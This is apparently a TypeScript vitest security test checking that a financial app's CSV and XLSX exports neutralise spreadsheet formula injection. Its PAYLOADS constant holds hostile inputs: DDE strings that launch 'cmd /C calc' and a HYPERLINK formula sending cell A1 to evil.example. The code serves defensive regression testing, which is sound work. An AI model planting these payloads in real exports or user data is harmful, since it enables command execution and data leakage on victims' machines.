/**
 * Issue 14, exports: formula injection. Every text field a user or a statement controls — the
 * description, reference, notes, merchant, the name of the user's own category, the bank name,
 * account number, holder and type, and the uploaded file's name — carries a formula attempt
 * (=, +, -, @, tab, CR, =HYPERLINK, DDE); every CSV and XLSX the API gives must leave them inert:
 * CSV cells parsed back never start a formula unless they are a plain number, XLSX cells are
 * strings (never formulas) on every sheet, and negative amounts are still numbers.
 */
import ExcelJS from 'exceljs';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { newUser, startTestApp, type TestApp } from '../helpers/app.ts';
import { databases, openTestDatabase, type TestDatabase } from '../helpers/databases.ts';
import { seedAnalysis } from '../helpers/statements.ts';

// biome-ignore lint/suspicious/noExplicitAny: response bodies are checked by assertions.
type Json = Record<string, any>;

const DDE = "=cmd|' /C calc'!A0";
const PAYLOADS = {
  category: '=HYPERLINK("http://evil.example/?leak="&A1,"Open")',
  bank: '=HYPERLINK("http://evil.example","Bank")',
  account: "+44-20-7946-0000+cmd|' /C calc'!A0",
  holder: "@SUM(1+1)*cmd|' /C calc'!A0",
  type: "-2+3+cmd|' /C calc'!A0",
  description1: '=1+1',
  description2: '+SUM(A1:A9)',
  description3: '-2+3',
  description4: DDE,
  description5: '=DDE("cmd";"/C calc";"__DdeLink_60_870516294")',
  description6: '@NOW()',
  reference1: '\t=2+2',
  reference2: '\r=3+3',
  notes1: '=HYPERLINK("http://evil.example/notes","x")',
  notes2: "@cmd|'/c calc'!A1",
  merchant1: '=merchant()',
  merchant2: '+merchant',
};
/** A cell a spreadsheet would run as a formula. */
const FORMULA = /^[=+\-@\t\r]/;
const PLAIN_NUMBER = /^-?\d+(\.\d+)?$/;

/** RFC 4180 parser (quotes, doubled quotes, CRLF inside quoted cells). */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = '';
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const ch = text[i]!;
    if (quoted) {
      if (ch === '"' && text[i + 1] === '"') {
        cell += '"';
        i++;
      } else if (ch === '"') quoted = false;
      else cell += ch;
    } else if (ch === '"' && cell === '') quoted = true;
    else if (ch === ',') {
      row.push(cell);
      cell = '';
    } else if (ch === '\r' && text[i + 1] === '\n') {
      row.push(cell);
      rows.push(row);
      row = [];
      cell = '';
      i++;
    } else cell += ch;
  }
  if (cell !== '' || row.length > 0) rows.push([...row, cell]);
  return rows;
}

describe.each(databases)('formula injection in exports on %s', (kind) => {
  let testDb: TestDatabase;
  let t: TestApp;
  let token: string;
  let analysis: string;

  beforeAll(async () => {
    testDb = await openTestDatabase(kind);
    t = await startTestApp({ database: testDb.database, workers: false });
    const res = await t.app.inject({
      method: 'POST',
      url: '/api/auth/register/',
      payload: newUser(),
    });
    const body = res.json() as Json;
    token = body.tokens.access;
    const category = await t.app.inject({
      method: 'POST',
      url: '/api/category/',
      headers: { authorization: `Bearer ${token}` },
      payload: { name: PAYLOADS.category, primary: 'GENERAL_MERCHANDISE' },
    });
    expect(category.statusCode, category.body).toBe(201);
    const categoryId = (category.json() as Json).id as string;

    const seeded = await seedAnalysis(testDb.database.db, body.user.id, `${DDE}.pdf`, [
      {
        bank_name: PAYLOADS.bank,
        account_number: PAYLOADS.account,
        account_holder: PAYLOADS.holder,
        account_type: PAYLOADS.type,
        currency: 'GBP',
        period_start: '2026-03-01',
        period_end: '2026-03-31',
        opening_balance: 100_000,
        closing_balance: 100_000 - 1_234 + 5_000 - 250 - 99 + 1 - 7,
        transactions: [
          {
            date: '2026-03-02',
            description: PAYLOADS.description1,
            amount: -1_234,
            reference: PAYLOADS.reference1,
            notes: PAYLOADS.notes1,
            category: categoryId,
          },
          {
            date: '2026-03-03',
            description: PAYLOADS.description2,
            amount: 5_000,
            reference: PAYLOADS.reference2,
            notes: PAYLOADS.notes2,
          },
          {
            date: '2026-03-04',
            description: PAYLOADS.description3,
            amount: -250,
            category: categoryId,
          },
          { date: '2026-03-05', description: PAYLOADS.description4, amount: -99 },
          { date: '2026-03-06', description: PAYLOADS.description5, amount: 1 },
          { date: '2026-03-07', description: PAYLOADS.description6, amount: -7 },
        ],
      },
    ]);
    analysis = seeded.id;
    const [first, second] = seeded.statements[0]!.transactionIds;
    await testDb.database.db
      .updateTable('transactions')
      .set({ merchant: PAYLOADS.merchant1 })
      .where('id', '=', first!)
      .execute();
    await testDb.database.db
      .updateTable('transactions')
      .set({ merchant: PAYLOADS.merchant2 })
      .where('id', '=', second!)
      .execute();
  }, 120_000);

  afterAll(async () => {
    await t?.close();
    await testDb?.drop();
  });

  const download = async (url: string) => {
    const res = await t.app.inject({
      method: 'GET',
      url,
      headers: { authorization: `Bearer ${token}` },
    });
    expect(res.statusCode, `${url}: ${res.body.slice(0, 200)}`).toBe(200);
    return res;
  };
  const urls = (format: 'csv' | 'xlsx') => [
    `/api/analysis/${analysis}/export/?format=${format}`,
    `/api/analysis/${analysis}/export/?format=${format}&amounts=split`,
    `/api/analysis/export/?format=${format}&ids=${analysis}`,
    `/api/transaction/export/?format=${format}&amounts=split&bom=true`,
  ];

  it('leaves every formula attempt inert in CSV, and amounts numbers', async () => {
    for (const url of urls('csv')) {
      const res = await download(url);
      const rows = parseCsv(res.body.replace(/^\uFEFF/, ''));
      const header = rows[0]!;
      expect(header).toContain('Description');
      for (const row of rows) {
        expect(row.length, url).toBe(header.length); // no cell broke out of its column or row
        for (const cell of row) {
          if (FORMULA.test(cell))
            expect(PLAIN_NUMBER.test(cell), `${url}: ${JSON.stringify(cell)}`).toBe(true);
        }
      }
      const text = rows.flat();
      // the fields a CSV carries are there, neutralised with a leading apostrophe
      const carried = [
        'description1',
        'description2',
        'description3',
        'description4',
        'description5',
        'description6',
        'reference1',
        'reference2',
        'merchant1',
        'merchant2',
        'account',
        'category',
      ] as const;
      for (const field of carried) expect(text, `${url} ${field}`).toContain(`'${PAYLOADS[field]}`);
      const amounts = rows
        .slice(1)
        .map((r) => r[header.indexOf(header.includes('Amount') ? 'Amount' : 'Debit')]!);
      expect(amounts.some((a) => PLAIN_NUMBER.test(a))).toBe(true);
      if (header.includes('Amount')) expect(amounts).toContain('-12.34');
    }
  });

  it('writes every formula attempt as a string cell in XLSX, on every sheet, and amounts as numbers', async () => {
    for (const url of urls('xlsx')) {
      const res = await download(url);
      const workbook = new ExcelJS.Workbook();
      await workbook.xlsx.load(res.rawPayload as unknown as ArrayBuffer);
      const strings: string[] = [];
      let cells = 0;
      workbook.eachSheet((sheet) => {
        sheet.eachRow((row) => {
          row.eachCell((cell) => {
            cells++;
            expect(cell.type, `${url} ${sheet.name}!${cell.address}`).not.toBe(
              ExcelJS.ValueType.Formula,
            );
            expect(cell.formula, `${url} ${sheet.name}!${cell.address}`).toBeFalsy();
            if (typeof cell.value === 'string') {
              strings.push(cell.value);
              expect(
                FORMULA.test(cell.value),
                `${url} ${sheet.name}!${cell.address}: ${cell.value}`,
              ).toBe(false);
            }
          });
        });
      });
      expect(cells).toBeGreaterThan(20);
      for (const [field, payload] of Object.entries(PAYLOADS)) {
        // (XML turns a CR in text into LF when read back: still behind the apostrophe)
        const found =
          strings.includes(`'${payload}`) || strings.includes(`'${payload.replace(/\r/g, '\n')}`);
        expect(found, `${url} ${field}`).toBe(true);
      }
      const sheet = workbook.getWorksheet('Transactions')!;
      const header = (sheet.getRow(1).values as unknown[]).slice(1);
      const split = !header.includes('Amount');
      const col = header.indexOf(split ? 'Debit' : 'Amount') + 1;
      const first = sheet.getRow(2).getCell(col).value;
      expect(typeof first).toBe('number');
      expect(first).toBe(split ? 12.34 : -12.34);
    }
  });
});
